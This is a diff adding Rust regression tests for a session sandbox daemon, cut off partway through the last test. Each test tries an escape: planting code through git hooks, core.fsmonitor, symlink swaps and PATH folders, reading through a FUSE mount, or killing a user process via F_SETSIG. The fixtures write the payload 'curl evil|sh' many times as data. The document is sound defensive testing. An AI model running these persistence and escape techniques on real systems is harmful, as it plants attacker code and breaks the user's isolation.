@@ -7242,3 +7242,826 @@ fn takes_a_read_lease_on_a_file_it_may_only_read() {
     assert_eq!(r[0], 0, "control: the granted read: {r:?}");
     assert!(refused(r[1]), "a read lease on a file the session may only read: {r:?}");
 }
+
+// ---------------------------------------------------------------------------------------
+// Eleventh pass: where the lists of the configuration watch and of the configuration read
+// end (a symlink in the middle of the path a never place resolves through, a folder that
+// does not exist yet, a write not yet closed, the git configuration the starter's
+// environment names, the sixty-fifth file of a configuration folder, the fifth file of an
+// include chain, a byte that is not UTF-8, the loading forms of tools other than git and
+// the shell, a path relative to the home, `XDG_CONFIG_HOME` moved by the shell's own
+// configuration, the folder of a loaded file), a filesystem whose access is the mounter's
+// and not its mode bits' (FUSE), and a file's signal chosen for a process of the user's.
+
+fn symlink(target: &str, link: &Path) -> i32 {
+    let t = CString::new(target).unwrap();
+    // SAFETY: symlink on valid C strings.
+    rc(unsafe { libc::symlink(t.as_ptr(), cpath(link).as_ptr()) } as i64)
+}
+
+fn unlink(p: &Path) -> i32 {
+    // SAFETY: unlink on a valid C string.
+    rc(unsafe { libc::unlink(cpath(p).as_ptr()) } as i64)
+}
+
+/// A symlink of the user's at `link` to `target`.
+fn users_symlink(target: &str, link: &Path) {
+    std::os::unix::fs::symlink(target, link).unwrap_or_else(|e| panic!("symlink {}: {e}", link.display()));
+    chown(link);
+}
+
+/// Points the user's symlink `link` at `target` as the user's tools do it atomically (a new
+/// link renamed over the old: `ln -sfn` + `mv -T`, Home Manager's and stow's switch).
+fn switch_users_symlink(target: &str, link: &Path) {
+    let new = link.with_file_name(format!(".rtn-switch-{}", uniq()));
+    users_symlink(target, &new);
+    std::fs::rename(&new, link).unwrap_or_else(|e| panic!("switch {}: {e}", link.display()));
+}
+
+impl Red {
+    /// How many times the daemon has read the user's configuration again for this session.
+    fn rereads(&self) -> usize {
+        let audit = std::fs::read_to_string(self.dir.join("audit.jsonl")).unwrap_or_default();
+        audit.lines().filter(|l| l.contains("\"config_reread\"")).count()
+    }
+
+    /// Gives the daemon `secs` seconds to hear a change of the user's configuration (it
+    /// reads it again within 20 to 500 ms of a change it hears): whether it read it again
+    /// more than `before` times.
+    fn heard_within(&self, before: usize, secs: u64) -> bool {
+        let start = Instant::now();
+        while start.elapsed() < Duration::from_secs(secs) {
+            if self.rereads() > before {
+                return true;
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        false
+    }
+}
+
+/// Writes a hook and a new hook in `hooks` and a file beside it in `top` (the control):
+/// the results, the control first.
+fn write_hooks(top: &Path, hooks: &Path) -> Vec<i32> {
+    vec![
+        create(&top.join(format!("notes-{}.txt", uniq())), "x"),
+        append(&hooks.join("pre-commit"), "curl evil|sh\n"),
+        create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+    ]
+}
+
+/// Retargets a symlink in the middle of the path the user's `~/.gitconfig` resolves
+/// through: `~/.gitconfig -> ~/dots/current/gitconfig`, `~/dots/current -> v1` (the shape
+/// of Home Manager's generations, stow's and chezmoi's trees, a dotfiles repository with
+/// versions), in a folder the session was granted ("tidy my dotfiles"). The session makes
+/// `~/dots/evil/gitconfig` (with `core.fsmonitor = curl evil|sh`, which the user's next
+/// `git status` anywhere runs) and renames a new link over `current`, so `~/.gitconfig` now
+/// resolves to its file. Principle: the never places (`~/.gitconfig`) are never changed by a
+/// session, and "a literal place that is a symlink, or lies under one, protects its target
+/// too". Why it might get out: `NeverList::new` protects the link's name and the target it
+/// resolves to when the session starts (`resolve_existing`), and `pin_ancestors` pins the
+/// target's folders; the link `current` is on the way, neither the place, its target nor an
+/// ancestor of the target, so it is a file of the user's under the grant. Controls: the
+/// session makes its file there; the user switches the link outside the session.
+/// Gets out on 6.1 and 6.12: the rename over `current` is let through; `~/.gitconfig` resolves
+/// to the session's file.
+#[test]
+fn retargets_a_symlink_on_the_way_to_the_users_gitconfig() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "midlink");
+    let dots = top.join("dots");
+    make(&dots.join("v1/gitconfig"), Some("[user]\n\tname = u\n"));
+    users_symlink("v1", &dots.join("current"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _aside = Aside::new(&gc);
+    users_symlink(dots.join("current/gitconfig").to_str().unwrap(), &gc);
+    let v1 = dots.join("v1/gitconfig");
+    let evil = dots.join("evil");
+    let swap = |name: &str| {
+        let new = dots.join(name);
+        vec![symlink("evil", &new), rename(&new, &dots.join("current"))]
+    };
+    let probe = dots.join("probe");
+    assert_eq!(ungated(|| vec![symlink("v1", &probe), rename(&probe, &dots.join("current"))]), vec![0, 0], "control: the user switches the link");
+    let mut red = Red::start("midlink");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![mkdir(&evil), create(&evil.join("gitconfig"), "[core]\n\tfsmonitor = curl evil|sh\n")];
+        r.extend(swap("next"));
+        if r[3] != 0 {
+            // `ln -sfn`: the old link removed, a new one made at its name.
+            r.push(unlink(&dots.join("current")));
+            r.push(symlink("evil", &dots.join("current")));
+        }
+        r
+    });
+    assert_eq!(&r[..2], &[0, 0], "control: the session makes its file in the granted folder: {r:?}");
+    let now = std::fs::canonicalize(&gc).ok();
+    if now.as_deref() != Some(v1.as_path()) {
+        // The user's ~/.gitconfig back on its own file before the assertion fails.
+        switch_users_symlink("v1", &dots.join("current"));
+    }
+    assert_eq!(now.as_deref(), Some(v1.as_path()), "~/.gitconfig now resolves to the session's file: {r:?}");
+}
+
+/// Writes the hooks folder the user's `~/.gitconfig` names once the user switched a symlink
+/// in the middle of its path: `~/.gitconfig -> ~/dots/current/gitconfig` and `current -> v1`,
+/// and while the session runs the user switches `current` to `v2` (Home Manager activating
+/// a new generation, `stow -R`, a dotfiles branch checked out), whose `gitconfig` names
+/// `core.hooksPath = ~/dots-hooks`; the session then writes a hook there and git runs it at
+/// the user's next commit. Principle: what a never place names as code is protected as long
+/// as the configuration names it ("a change to the user's own configuration is read at
+/// once": `config_watch`). Why it might get out: `with_targets` watches the link by its name
+/// and the file it resolved to when read (`canonicalize`), in their folders; the link
+/// `current` lies in a third folder, which no watch covers, so the switch is not heard and
+/// `v2/gitconfig` is not read. Control: a file beside the hooks.
+/// Gets out on 6.1 and 6.12: the switch is not heard (no reading again within 3 s); both
+/// hooks written.
+#[test]
+fn writes_hooks_a_gitconfig_names_after_the_user_switches_a_symlink_on_its_way() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "switchlink");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let dots = top.join("dots");
+    let hooks = top.join("dots-hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    make(&dots.join("v1/gitconfig"), Some("[user]\n\tname = u\n"));
+    make(&dots.join("v2/gitconfig"), Some(&format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}/dots-hooks\n")));
+    users_symlink("v1", &dots.join("current"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _aside = Aside::new(&gc);
+    users_symlink(dots.join("current/gitconfig").to_str().unwrap(), &gc);
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    let mut red = Red::start("switchlink");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started.
+    let before = red.rereads();
+    switch_users_symlink("v2", &dots.join("current"));
+    let heard = red.heard_within(before, 3);
+    note(&format!("switchlink: the daemon heard the switch: {heard}"));
+    let r = red.gated(|| write_hooks(&top, &hooks));
+    assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath ~/.gitconfig names after the switch", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks named after the user switched the link, written (heard: {heard}): {open:?}");
+}
+
+/// Writes the hooks folder that a file `~/.gitconfig` includes names, where the user makes
+/// that file, and its folder, while the session runs: `[include] path =
+/// ~/dots/git/local.inc` (a machine-local include that dotfiles ship before it exists),
+/// and the user then writes `local.inc` with `core.hooksPath = ~/dots-hooks`. Principle: what
+/// a never place names as code is protected as long as the configuration names it, and "a
+/// file that does not exist yet is watched by its name too: one the user makes later
+/// counts". Why it might get out: `ConfigWatch::watch` watches a file in its folder, and a
+/// file whose folder does not exist is not watched at all ("its parent's watch, where one
+/// is asked for, sees the folder made"): for an included file none is asked for, so making
+/// `~/dots/git/` and the file is not heard. Control: a file beside the hooks.
+/// Gets out on 6.1 and 6.12: the include made is not heard; both hooks written.
+#[test]
+fn writes_hooks_a_gitconfig_include_names_once_the_user_makes_its_folder() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "lateinc");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("dots-hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, &format!("[user]\n\tname = u\n[include]\n\tpath = ~/{rel}/dots/git/local.inc\n"));
+    let mut red = Red::start("lateinc");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started.
+    let before = red.rereads();
+    make(&top.join("dots/git/local.inc"), Some(&format!("[core]\n\thooksPath = ~/{rel}/dots-hooks\n")));
+    let heard = red.heard_within(before, 3);
+    note(&format!("lateinc: the daemon heard the include made: {heard}"));
+    let r = red.gated(|| write_hooks(&top, &hooks));
+    assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath the later include names", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks named by an include made after the session started, written (heard: {heard}): {open:?}");
+}
+
+/// Writes the hooks folder the user adds to `~/.gitconfig` through a descriptor the user's
+/// process keeps open (an editor or a dotfiles tool that writes in place and closes the
+/// file when it quits, a shell's `exec 3>>~/.gitconfig`): the configuration names
+/// `core.hooksPath = ~/dots-hooks` on disk, and git reads it, from the moment of the write.
+/// Principle: what a never place names as code is protected as long as the configuration
+/// names it. Why it might get out: the watch's mask (`config_watch::mask`) hears a write
+/// when its file is closed (`IN_CLOSE_WRITE`), not `IN_MODIFY`; until the user's process
+/// closes it, the change is not heard. Controls: the change is on disk; a file beside the
+/// hooks.
+/// Gets out on 6.1 and 6.12: the write is not heard while the descriptor is open; both hooks
+/// written.
+#[test]
+fn writes_hooks_the_user_adds_to_gitconfig_through_a_descriptor_kept_open() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "openfd");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("dots-hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, "[user]\n\tname = u\n");
+    let mut red = Red::start("openfd");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    // The user's process, outside the session, after it started: writes and keeps it open.
+    let before = red.rereads();
+    let line = format!("[core]\n\thooksPath = ~/{rel}/dots-hooks\n");
+    let gcc = cpath(&gc);
+    let (_editor, fd) = pincer_tests::HeldProcess::start(
+        None,
+        UID,
+        || {
+            // SAFETY: open/write on a valid C string and a local buffer; the descriptor is kept.
+            unsafe {
+                let fd = libc::open(gcc.as_ptr(), libc::O_WRONLY | libc::O_APPEND);
+                if fd < 0 || libc::write(fd, line.as_ptr().cast(), line.len()) != line.len() as isize {
+                    return -errno();
+                }
+                fd
+            }
+        },
+        |_| {},
+    );
+    assert!(fd >= 0, "the user's process writes ~/.gitconfig: errno {}", -fd);
+    assert!(std::fs::read_to_string(&gc).unwrap().contains("hooksPath"), "control: the change is on disk");
+    let heard = red.heard_within(before, 3);
+    note(&format!("openfd: the daemon heard the write: {heard}"));
+    let r = red.gated(|| write_hooks(&top, &hooks));
+    assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath written to ~/.gitconfig and not yet closed", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks named by a write not yet closed, written (heard: {heard}): {open:?}");
+}
+
+/// Plants commands in folders the user's `~/.bashrc.d/` files put on `PATH`, where the
+/// folder holds more files than the daemon reads: 72 snippets (a dotfiles framework's
+/// plugins, one `export PATH="$HOME/x/tNN/bin:$PATH"` each, sourced by `~/.bashrc`'s `for f
+/// in ~/.bashrc.d/*.sh` loop). The user's next shell puts every folder on `PATH`, so a `git`
+/// planted in any of them runs in place of the user's. Principle: the folders a never
+/// place's shell lines put on `PATH` are never-changed with it; `~/.bashrc.d/**` is a never
+/// place. Why it might get out: `configuration_files` reads at most `CONFIG_DIR_FILES` (64)
+/// files of a protected folder, in the order the directory lists them; the folders the
+/// others name are not read. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: a command is planted in 8 of the 72 folders (72 - 64).
+#[test]
+fn plants_commands_in_path_folders_named_past_the_files_read_of_bashrc_d() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "manyrc");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let d = PathBuf::from(home(".bashrc.d"));
+    if !d.exists() {
+        c.add(&d);
+    }
+    let n = 72;
+    let tag = uniq();
+    for i in 0..n {
+        make(&top.join(format!("t{i:02}/bin/tool")), Some("#!/bin/sh\n"));
+        let f = d.join(format!("rtn-{tag}-{i:02}.sh"));
+        c.add(&f);
+        make(&f, Some(&format!("export PATH=\"$HOME/{rel}/t{i:02}/bin:$PATH\"\n")));
+    }
+    let _bashrc = bashrc_with("for f in ~/.bashrc.d/*.sh; do . \"$f\"; done");
+    let mut red = Red::start("manyrc");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x")];
+        r.extend((0..n).map(|i| create(&top.join(format!("t{i:02}/bin/git")), "#!/bin/sh\ncurl evil|sh\n")));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open: Vec<usize> = (0..n).filter(|i| !refused(r[i + 1])).collect();
+    assert!(open.is_empty(), "a command planted in {} of the {n} folders ~/.bashrc.d puts on PATH: t{open:02?}", open.len());
+}
+
+/// Writes the hooks folder, and the file itself, that the fifth file of a chain of git
+/// includes names: `~/.gitconfig` includes `inc/1.inc`, which includes `2.inc`, and so on to
+/// `5.inc` (a dotfiles layout: global, per-OS, per-host, per-employer, per-project), whose
+/// `core.hooksPath = ~/hooks5`; git follows includes ten deep. The session writes a hook
+/// there, and `core.fsmonitor = curl evil|sh` into `5.inc`. Principle: "a never place's
+/// protection follows what it loads", and what it names as code is protected with it. Why it
+/// might get out: `loaded_files` follows loads `LOAD_DEPTH` (4) deep, so `5.inc` is neither
+/// protected nor read. Controls: a file beside them; `4.inc` (the fourth) is refused.
+/// Gets out on 6.1 and 6.12: the fourth include is refused; the fifth, and both hooks, are
+/// written.
+#[test]
+fn writes_hooks_and_the_file_the_fifth_include_of_the_users_gitconfig_names() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "deepinc");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("hooks5");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let inc = top.join("inc");
+    for i in 1..5 {
+        make(&inc.join(format!("{i}.inc")), Some(&format!("[include]\n\tpath = {}.inc\n", i + 1)));
+    }
+    make(&inc.join("5.inc"), Some(&format!("[core]\n\thooksPath = ~/{rel}/hooks5\n")));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, &format!("[user]\n\tname = u\n[include]\n\tpath = ~/{rel}/inc/1.inc\n"));
+    let mut red = Red::start("deepinc");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = write_hooks(&top, &hooks);
+        r.push(append(&inc.join("4.inc"), "[core]\n\tfsmonitor = curl evil|sh\n"));
+        r.push(append(&inc.join("5.inc"), "[core]\n\tfsmonitor = curl evil|sh\n"));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    assert!(refused(r[3]), "control: the fourth include is protected: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath the fifth include names", "a new hook there", "the fifth include itself"], &[r[1], r[2], r[4]]);
+    assert!(open.is_empty(), "what the fifth include of ~/.gitconfig is and names, written: {open:?}");
+}
+
+/// A FUSE filesystem of the user's (its `user_id`, without `allow_other`: what `sshfs`,
+/// `rclone mount`, `gocryptfs` or GVfs mount for the user) served by a thread of the test:
+/// one file, `report.txt`, holding `REPORT`, that the server says belongs to root (uid 0,
+/// mode 0644; the root folder too), as `sshfs` shows the uids of the remote host. The kernel
+/// lets only the mounting user's processes reach it (`fuse_allow_current_process`),
+/// whatever the modes say. Unmounted when dropped.
+struct UsersFuse {
+    at: PathBuf,
+}
+
+const FUSE_ROOT_ID: u64 = 1;
+const REPORT: &[u8] = b"the user's remote report\n";
+
+/// `struct fuse_attr` of node `ino` (1: the root folder; 2: the file).
+fn fuse_attr(ino: u64) -> Vec<u8> {
+    let (mode, size, nlink) = if ino == FUSE_ROOT_ID { (0o040755u32, 0u64, 2u32) } else { (0o100644, REPORT.len() as u64, 1) };
+    let mut a = Vec::with_capacity(88);
+    for v in [ino, size, 1, 0, 0, 0] {
+        a.extend_from_slice(&v.to_le_bytes());
+    }
+    for v in [0u32, 0, 0, mode, nlink, 0, 0, 0, 4096, 0] {
+        a.extend_from_slice(&v.to_le_bytes());
+    }
+    a
+}
+
+/// One FUSE request answered: the reply's body, `Err(errno)`, or `None` for none at all.
+fn fuse_answer(opcode: u32, nodeid: u64, body: &[u8]) -> Option<Result<Vec<u8>, i32>> {
+    const LOOKUP: u32 = 1;
+    const FORGET: u32 = 2;
+    const GETATTR: u32 = 3;
+    const OPEN: u32 = 14;
+    const READ: u32 = 15;
+    const RELEASE: u32 = 18;
+    const FLUSH: u32 = 25;
+    const INIT: u32 = 26;
+    const INTERRUPT: u32 = 36;
+    const BATCH_FORGET: u32 = 42;
+    let u32_at = |o: usize| u32::from_le_bytes(body[o..o + 4].try_into().unwrap());
+    let u64_at = |o: usize| u64::from_le_bytes(body[o..o + 8].try_into().unwrap());
+    Some(match opcode {
+        FORGET | BATCH_FORGET | INTERRUPT => return None,
+        INIT => {
+            // fuse_init_out: major, minor, max_readahead, flags, max_background,
+            // congestion_threshold, max_write, time_gran, max_pages, map_alignment, flags2,
+            // unused (64 bytes).
+            let mut o = Vec::with_capacity(64);
+            for v in [7u32, 31, u32_at(8), 0] {
+                o.extend_from_slice(&v.to_le_bytes());
+            }
+            o.extend_from_slice(&16u16.to_le_bytes());
+            o.extend_from_slice(&12u16.to_le_bytes());
+            o.extend_from_slice(&65536u32.to_le_bytes());
+            o.extend_from_slice(&1u32.to_le_bytes());
+            o.extend_from_slice(&16u16.to_le_bytes());
+            o.extend_from_slice(&0u16.to_le_bytes());
+            o.resize(64, 0);
+            Ok(o)
+        }
+        LOOKUP if nodeid == FUSE_ROOT_ID && body.split(|b| *b == 0).next() == Some(b"report.txt") => {
+            // fuse_entry_out: nodeid, generation, entry_valid, attr_valid, their nsecs, attr.
+            let mut o = Vec::with_capacity(128);
+            for v in [2u64, 1, 1, 1] {
+                o.extend_from_slice(&v.to_le_bytes());
+            }
+            o.extend_from_slice(&[0; 8]);
+            o.extend(fuse_attr(2));
+            Ok(o)
+        }
+        LOOKUP => Err(libc::ENOENT),
+        GETATTR => {
+            let mut o = vec![0u8; 16];
+            o[..8].copy_from_slice(&1u64.to_le_bytes());
+            o.extend(fuse_attr(nodeid));
+            Ok(o)
+        }
+        OPEN => Ok(vec![0; 16]),
+        READ => {
+            let (off, size) = (u64_at(8) as usize, u32_at(16) as usize);
+            let from = off.min(REPORT.len());
+            Ok(REPORT[from..(from + size).min(REPORT.len())].to_vec())
+        }
+        RELEASE | FLUSH => Ok(vec![]),
+        _ => Err(libc::ENOSYS),
+    })
+}
+
+impl UsersFuse {
+    fn mount(at: &Path) -> UsersFuse {
+        use std::os::fd::AsRawFd;
+        let dev = std::fs::OpenOptions::new().read(true).write(true).open("/dev/fuse").expect("open /dev/fuse");
+        let opts = CString::new(format!("fd={},rootmode=40755,user_id={UID},group_id={UID}", dev.as_raw_fd())).unwrap();
+        // SAFETY: mount(2) with valid C strings.
+        let r = unsafe { libc::mount(c"rtn-remote".as_ptr(), cpath(at).as_ptr(), c"fuse".as_ptr(), libc::MS_NOSUID | libc::MS_NODEV, opts.as_ptr().cast()) };
+        assert_eq!(r, 0, "mount a FUSE filesystem at {}: {}", at.display(), std::io::Error::last_os_error());
+        std::thread::spawn(move || {
+            let fd = dev.as_raw_fd();
+            let mut buf = vec![0u8; 1 << 18];
+            loop {
+                // SAFETY: read/write of /dev/fuse with local buffers.
+                let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
+                if n < 0 {
+                    if errno() == libc::EINTR || errno() == libc::ENOENT {
+                        continue;
+                    }
+                    return;
+                }
+                let req = &buf[..n as usize];
+                if req.len() < 40 {
+                    continue;
+                }
+                let opcode = u32::from_le_bytes(req[4..8].try_into().unwrap());
+                let unique = u64::from_le_bytes(req[8..16].try_into().unwrap());
+                let nodeid = u64::from_le_bytes(req[16..24].try_into().unwrap());
+                let Some(answer) = fuse_answer(opcode, nodeid, &req[40..]) else { continue };
+                let (error, body) = match answer {
+                    Ok(b) => (0i32, b),
+                    Err(e) => (-e, vec![]),
+                };
+                let mut out = Vec::with_capacity(16 + body.len());
+                out.extend_from_slice(&((16 + body.len()) as u32).to_le_bytes());
+                out.extend_from_slice(&error.to_le_bytes());
+                out.extend_from_slice(&unique.to_le_bytes());
+                out.extend(body);
+                // SAFETY: as above.
+                unsafe { libc::write(fd, out.as_ptr().cast(), out.len()) };
+            }
+        });
+        UsersFuse { at: at.to_path_buf() }
+    }
+}
+
+impl Drop for UsersFuse {
+    fn drop(&mut self) {
+        // SAFETY: umount2 on our own mount point.
+        unsafe { libc::umount2(cpath(&self.at).as_ptr(), libc::MNT_DETACH) };
+    }
+}
+
+/// Reads a file on the user's FUSE mount outside the home (`/srv/NAME/remote`, a folder of
+/// the user's, 0755, where the user mounted a server's files with `sshfs` or a cloud drive
+/// with `rclone mount`), which the filesystem says belongs to root and every user may read
+/// (0644, under a 0755 folder), while the kernel lets only the user's processes reach
+/// anything on it (a FUSE mount without `allow_other`). No grant. Principle: "an access
+/// that the user's identity lets through is gated like one under a root even outside every
+/// listed place"; only what the system lets every user touch is not the user's. Why it might
+/// get out: the owner rule (`users_bits`) decides by the object's owner and mode bits and
+/// the private-path rule by the folders' "other" search bits; on FUSE none of them is what
+/// keeps other users out (`fuse_allow_current_process` compares the caller with the
+/// mounting user, past every hook), so the file looks like a system file every user may
+/// read. Controls: the user reads it outside the session; another user (uid 1001) is
+/// refused by the kernel, so the access is the user's.
+/// Gets out on 6.1 and 6.12: the session reads the file.
+#[test]
+fn reads_a_file_on_the_users_fuse_mount_that_only_the_user_passes() {
+    system_dirs();
+    let mut c = Cleanup::default();
+    let dir = udir(&format!("/srv/rtn-fuse-{}", uniq()));
+    c.add(&dir);
+    let at = dir.join("remote");
+    make(&at, None);
+    let _mnt = UsersFuse::mount(&at);
+    let report = at.join("report.txt");
+    assert_eq!(ungated(|| vec![holds(&report, std::str::from_utf8(REPORT).unwrap())]), vec![0], "control: the user reads the file on its mount");
+    let other = as_other_user(1001, || vec![read(&report)]);
+    assert_eq!(other, vec![EACCES], "control: another user is refused by the kernel");
+    let red = Red::start("usersfuse");
+    let r = red.gated(|| vec![read(&report)]);
+    assert!(refused(r[0]), "{} on the user's FUSE mount read from the session: {r:?}", report.display());
+}
+
+/// Whether process `pid` (a child of the test) has ended: gone or a zombie.
+fn ended(pid: i32) -> bool {
+    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
+        Ok(s) => s.rsplit_once(')').map_or(true, |(_, rest)| rest.trim_start().starts_with('Z')),
+        Err(_) => true,
+    }
+}
+
+/// A pipe, and a process of the user's outside every session (an editor or a terminal
+/// program that uses signal-driven I/O) that owns its read end's signals (`F_SETOWN` to
+/// itself, `O_ASYNC`) and handles `SIGIO` (here: ignores it), as a description the user's
+/// processes and a session share (the standard input `pincer run` passes on, inherited from
+/// the user's shell). The process and the pipe's two ends.
+fn users_async_pipe() -> (pincer_tests::HeldProcess, i32, i32) {
+    let mut p = [0; 2];
+    // SAFETY: pipe into a local array.
+    assert_eq!(unsafe { libc::pipe(p.as_mut_ptr()) }, 0);
+    let r = p[0];
+    let (held, v) = pincer_tests::HeldProcess::start(
+        None,
+        UID,
+        || {
+            // SAFETY: signal/fcntl on the inherited descriptor.
+            unsafe {
+                libc::signal(libc::SIGIO, libc::SIG_IGN);
+                if libc::fcntl(r, libc::F_SETOWN, libc::getpid()) < 0 || libc::fcntl(r, libc::F_SETFL, libc::O_ASYNC | libc::O_NONBLOCK) < 0 {
+                    return -errno();
+                }
+            }
+            0
+        },
+        |_| {},
+    );
+    assert_eq!(v, 0, "the user's process owns the pipe's signals");
+    (held, p[0], p[1])
+}
+
+/// Sets the signal of a file description whose signals a process of the user's owns
+/// (`fcntl(F_SETSIG, SIGKILL)`), then writes to the pipe: the kernel sends the owner
+/// `SIGKILL` in place of the `SIGIO` it handles, on the file's behalf. Principle: nothing
+/// "that acts on the user's other processes" is reachable, and "a file's signals (`SIGIO`,
+/// `SIGURG`, or any signal `F_SETSIG` names, `SIGKILL` included, which the kernel sends on
+/// the file's behalf past `task_kill`) go only to the process that asks". Why it might get
+/// out: `file_fcntl` checks who the owner is when it is set (`F_SETOWN`, `F_SETOWN_EX`), and
+/// an owner the user's process set is not the session's doing; `F_SETSIG` changes what is
+/// sent, and `send_sigio_to_task` checks the owner's credentials and the
+/// `file_send_sigiotask` hook, which is not attached. Controls: a write alone does not end
+/// the user's process (it ignores `SIGIO`); the user's own process does the same and ends
+/// it.
+/// Gets out on 6.1 and 6.12: `F_SETSIG` is let through and the user's process ends by
+/// `SIGKILL`.
+#[test]
+fn kills_the_users_process_by_setting_the_signal_of_a_file_it_owns() {
+    let kill = |r: i32, w: i32| {
+        // SAFETY: fcntl/write on inherited descriptors and a local buffer.
+        unsafe {
+            let w1 = rc(libc::write(w, b"x".as_ptr().cast(), 1) as i64);
+            std::thread::sleep(Duration::from_millis(100));
+            let s = rc(libc::fcntl(r, F_SETSIG, libc::SIGKILL) as i64);
+            let w2 = rc(libc::write(w, b"y".as_ptr().cast(), 1) as i64);
+            vec![w1, s, w2]
+        }
+    };
+    let (users, r, w) = users_async_pipe();
+    let out = ungated(|| kill(r, w));
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(out, vec![0, 0, 0], "control: the user's own process sets the signal and writes");
+    assert!(ended(users.pid()), "control: the user's process ends by SIGKILL");
+    drop(users);
+    // SAFETY: close of our own descriptors.
+    unsafe {
+        libc::close(r);
+        libc::close(w);
+    }
+    let (users, r, w) = users_async_pipe();
+    let red = Red::start("setsig");
+    // SAFETY: write on an inherited descriptor and a local buffer.
+    let alone = red.gated(|| vec![rc(unsafe { libc::write(w, b"z".as_ptr().cast(), 1) } as i64)]);
+    std::thread::sleep(Duration::from_millis(200));
+    assert!(alone == vec![0] && !ended(users.pid()), "control: the session's write alone leaves the user's process running ({alone:?})");
+    let got = red.gated(|| kill(r, w));
+    std::thread::sleep(Duration::from_millis(200));
+    let dead = ended(users.pid());
+    // SAFETY: close of our own descriptors.
+    unsafe {
+        libc::close(r);
+        libc::close(w);
+    }
+    assert_eq!(got[0], 0, "control: the session writes to the pipe: {got:?}");
+    assert!(!dead, "the user's process was killed by the signal the session set on its file ({got:?})");
+}
+
+/// Writes the hooks folder the user adds, while the session runs, to the git configuration
+/// the environment of the user's shell names (`GIT_CONFIG_GLOBAL=~/work/gitconfig`, exported
+/// by the shell or by direnv for a work tree, and so in the environment of `pincer run`):
+/// `git config --global core.hooksPath ~/work/hooks` writes that file (a lock file renamed
+/// over it). The session then writes a hook there, and into the file itself. Principle: what
+/// the user's configuration names as code is protected as long as it names it, and a change
+/// "to the user's own configuration is read at once" (`config_watch`). Why it might get
+/// out: the starter's environment is read once, when the session starts (`of_process`): the
+/// file `GIT_CONFIG_GLOBAL` names is protected as a program, and the places it names then
+/// are kept in the starters' merged environment, which a reading again takes as it was; the
+/// file is not among the places watched (`read_from` holds the never list's own files), so
+/// its change is neither heard nor read. Control: a file beside the hooks.
+/// Gets out on 6.1 and 6.12: the change is not heard; both hooks are written (the file itself
+/// is refused, by its name).
+#[test]
+fn writes_hooks_the_user_adds_to_the_git_configuration_its_environment_names() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envgc");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let gcfile = top.join("gitconfig");
+    make(&gcfile, Some("[user]\n\tname = u\n"));
+    let mut red = Red::start_env("envgc", &[], &[("GIT_CONFIG_GLOBAL", gcfile.display().to_string())], |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started: `git config --global` as git does it.
+    let before = red.rereads();
+    let lock = top.join("gitconfig.lock");
+    make(&lock, Some(&format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}/hooks\n")));
+    std::fs::rename(&lock, &gcfile).unwrap();
+    let heard = red.heard_within(before, 3);
+    note(&format!("envgc: the daemon heard the change: {heard}"));
+    let r = red.gated(|| {
+        let mut r = write_hooks(&top, &hooks);
+        r.push(append(&gcfile, "[core]\n\tfsmonitor = curl evil|sh\n"));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
